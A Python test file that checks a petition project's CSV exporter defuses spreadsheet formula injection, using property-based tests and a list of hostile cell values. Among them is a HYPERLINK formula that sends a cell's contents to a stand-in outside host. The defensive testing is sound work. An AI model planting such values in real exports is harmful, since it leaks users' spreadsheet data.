"""CSV: what is typed comes back as it was, and no spreadsheet finds a formula in it."""

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from petition.core.csv_tables import to_csv

HOSTILE = [
    *(
        "=1+1",
        "+49",
        "-1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\t1",
        "  =1",
        "\u00a0=1",
        '"=1',
        '" =1"',
        "\ufeff=1",
        "\u200b-1",
    ),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20A", "x;=1", "x; =1", 'x;"=1"', "x\t=1", "x\r\n=1", '";=1;"', "a;b;-1"),
    '=HYPERLINK("https://elsewhere.example/?"&A1,"answer")',
]
_SIGNS = {c for c in map(chr, range(0x110000)) if unicodedata.normalize("NFKC", c)[:1] in tuple("=+-@")}


def cells(text: str) -> list[str]:
    """Every cell that a spreadsheet may see: of commas; and of semicolons or tabs, where quotes are not heeded."""
    return [cell for row in csv.reader(io.StringIO(text, "")) for cell in row] + re.split(r"[;\t\r\n]", text)


def is_inert(cell: str) -> bool:
    """Whether no sign of a formula comes first, after what spreadsheets skip."""
    return cell.lstrip(' \t\r\n\v\f\xa0\u3000\ufeff\u200b"')[:1] not in _SIGNS


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_gets_an_apostrophe(value: str) -> None:
    for row in ((value,), ("PL", value), (value, value)):
        text = to_csv([row])
        assert all(map(is_inert, cells(text))), text


@given(st.lists(st.lists(st.text() | st.sampled_from(HOSTILE), min_size=1, max_size=3), max_size=4))
def test_no_text_is_a_formula_and_none_is_lost(rows: list[list[str]]) -> None:
    text = to_csv(rows)
    assert all(map(is_inert, cells(text)))
    read = list(csv.reader(io.StringIO(text, "")))
    assert [[cell.replace("'", "") for cell in row] for row in read if row] == [
        [cell.replace("'", "") for cell in row] for row in rows
    ]


@given(st.text(st.characters(categories=["L", "N"]), min_size=1), st.integers())
def test_a_name_and_a_number_stay_as_they_are(name: str, number: int) -> None:
    assert to_csv([(name, f"{name}-{name} = @", number)]) == f"{name},{name}-{name} = @,{number}\r\n"


def test_every_form_of_the_signs_is_known() -> None:
    assert all(to_csv([(sign,)]).startswith(f"'{sign}") for sign in _SIGNS)


def test_every_csv_is_written_in_one_place() -> None:
    writers = [file for file in Path("petition").rglob("*.py") if "csv.writer" in file.read_text("utf-8")]
    assert writers == [Path("petition/core/csv_tables.py")]
